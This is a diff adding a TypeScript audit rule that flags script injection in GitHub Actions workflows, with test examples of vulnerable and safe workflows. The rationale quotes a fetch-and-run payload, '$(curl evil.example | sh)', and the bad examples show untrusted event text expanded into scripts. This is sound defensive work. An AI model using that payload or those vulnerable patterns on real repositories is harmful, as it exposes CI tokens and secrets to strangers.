@@ -1,0 +1,114 @@
+import { defineRule, type Evidence, type Finding, type Flow, flowsIn, judge, type PlacedStep, type PlacedText } from 'policy-audit';
+import { workflow } from './shared/examples.ts';
+import { freeText, inputName } from './shared/untrusted.ts';
+
+/** Inputs of actions that are run as code, by the name of the action. */
+const codeInputs: ReadonlyMap<string, readonly string[]> = new Map([
+  ['actions/github-script', ['script']],
+  ['azure/cli', ['inlinescript']],
+  ['azure/powershell', ['inlinescript']],
+  ['appleboy/ssh-action', ['script']],
+  ['addnab/docker-run-action', ['run']],
+  ['nick-fields/retry', ['command', 'on_retry_command']],
+  ['nick-invision/retry', ['command']],
+  ['cloudflare/wrangler-action', ['command', 'precommands', 'postcommands']],
+  ['reactivecircus/android-emulator-runner', ['script']],
+  ['devcontainers/ci', ['runcmd']],
+  ['8398a7/action-slack', ['custom_payload']],
+  ['amadevus/pwsh-script', ['script']],
+  ['jannekem/run-python-script-action', ['script']],
+  ['mikefarah/yq', ['cmd']],
+]);
+
+const scriptsOf = ({ step }: PlacedStep): readonly PlacedText[] => {
+  const name = step.uses?.value.toLowerCase().replace(/@.*$/, '') ?? '';
+  const inputs = step.with.filter((setting) => codeInputs.get(name)?.includes(setting.name.toLowerCase())).map(({ value }) => value);
+  return step.run ? [step.run, ...inputs] : inputs;
+};
+
+const judgeFlow = (placed: PlacedStep, flow: Flow, followed = false): Finding | undefined => {
+  const { path, workflow: owner, job, step } = placed;
+  const at = { path, line: flow.line, column: flow.column };
+  const text = freeText(flow);
+  if (text) return { message: `${text} is put into a script, so its text runs as code.`, at };
+  const input = inputName(flow);
+  const triggers = owner?.triggers.filter(({ textInputs }) => textInputs.some((name) => name.toLowerCase() === input)) ?? [];
+  if (input !== undefined && (owner ? triggers.length > 0 : true))
+    return { message: `The input "${input}" is put into a script, so its text runs as code.`, at, severity: 'medium' };
+  const [context, name] = flow.path;
+  if (context !== 'env' || name === undefined || followed) return undefined;
+  const setting = [step.env, job?.env ?? [], owner?.env ?? []].flat().find((each) => each.name.toLowerCase() === name);
+  const behind = setting && flowsIn(setting.value).flatMap((each) => judgeFlow(placed, each, true) ?? [])[0];
+  return behind && { ...behind, at, related: [{ at: behind.at, note: `env.${name} is set here` }] };
+};
+
+export default defineRule({
+  id: 'ci/workflow-script-injection',
+  title: 'Text that strangers write reaches scripts through variables only',
+  severity: 'high',
+  rationale: 'An expression is put into the script before the shell starts. A title such as $(curl evil.example | sh) then runs with the token and the secrets of the job.',
+  remediation: 'Set the value as an environment variable of the step (env: TITLE: ${{ … }}) and write "$TITLE" in the script.',
+  practices: ['ci/no-template-injection'],
+  references: [
+    { standard: 'OSPS Baseline', control: 'OSPS-BR-01.01', url: 'https://baseline.openssf.org/' },
+    { standard: 'CWE', control: 'CWE-94', url: 'https://cwe.mitre.org/data/definitions/94.html' },
+    { standard: 'GitHub', control: 'Script injections', url: 'https://docs.github.com/en/actions/concepts/security/script-injections' },
+  ],
+  since: '0.1.0',
+  needs: ['workflows'],
+  check({ workflows }) {
+    const findings: Finding[] = [];
+    const evidence: Evidence[] = [];
+    for (const placed of workflows.steps) {
+      const scripts = scriptsOf(placed);
+      const found = scripts.flatMap((script) => flowsIn(script).flatMap((flow) => judgeFlow(placed, flow) ?? []));
+      findings.push(...found);
+      const [script] = scripts;
+      if (script && found.length === 0) evidence.push({ at: { path: placed.path, line: script.line, column: script.column }, note: 'a script without free text of an event' });
+    }
+    return judge(findings, evidence, 'No workflow or action of this repository runs a script.');
+  },
+  examples: {
+    bad: [
+      {
+        name: 'the title of an issue',
+        files: workflow('      - run: |\n          make\n          echo "${{ github.event.issue.title }}"\n'),
+        expect: { fail: ['.github/workflows/ci.yml:9'] },
+      },
+      { name: 'by index', files: workflow("      - run: echo ${{ github['event']['issue'].body }}\n"), expect: { fail: ['.github/workflows/ci.yml:7'] } },
+      { name: 'the whole event', files: workflow("      - run: echo '${{ toJSON(github.event) }}'\n"), expect: { fail: ['.github/workflows/ci.yml:7'] } },
+      { name: 'all commits', files: workflow("      - run: echo ${{ join(github.event.commits.*.message, ' ') }}\n"), expect: { fail: ['.github/workflows/ci.yml:7'] } },
+      {
+        name: 'a comment of the script is expanded too',
+        files: workflow('      - run: |\n          # ${{ github.head_ref }}\n          make\n'),
+        expect: { fail: ['.github/workflows/ci.yml:8'] },
+      },
+      {
+        name: 'a script in an input',
+        files: workflow('      - uses: actions/github-script@v8\n        with:\n          script: log("${{ github.event.comment.body }}")\n'),
+        expect: { fail: ['.github/workflows/ci.yml:9'] },
+      },
+      {
+        name: 'through env, but as an expression',
+        files: workflow('      - env:\n          T: ${{ github.event.issue.title }}\n        run: echo "${{ env.T }}"\n'),
+        expect: { fail: ['.github/workflows/ci.yml:9'] },
+      },
+      {
+        name: 'a text input',
+        files: workflow('      - run: deploy ${{ inputs.where }}\n', '{ workflow_dispatch: { inputs: { where: { type: string } } } }'),
+        expect: { fail: ['.github/workflows/ci.yml:7'] },
+      },
+    ],
+    good: [
+      { name: 'through a variable', files: workflow('      - env:\n          T: ${{ github.event.issue.title }}\n        run: echo "$T"\n'), expect: 'pass' },
+      { name: 'numbers and hashes', files: workflow('      - run: echo ${{ github.event.issue.number }} ${{ github.sha }}\n'), expect: 'pass' },
+      { name: 'only compared', files: workflow("      - run: echo ${{ github.head_ref == 'main' && 'yes' || 'no' }}\n"), expect: 'pass' },
+      {
+        name: 'a choice',
+        files: workflow('      - run: deploy ${{ inputs.where }}\n', '{ workflow_dispatch: { inputs: { where: { type: choice, options: [a, b] } } } }'),
+        expect: 'pass',
+      },
+      { name: 'no scripts', files: workflow('      - uses: ./setup\n'), expect: 'not-applicable' },
+    ],
+  },
+});
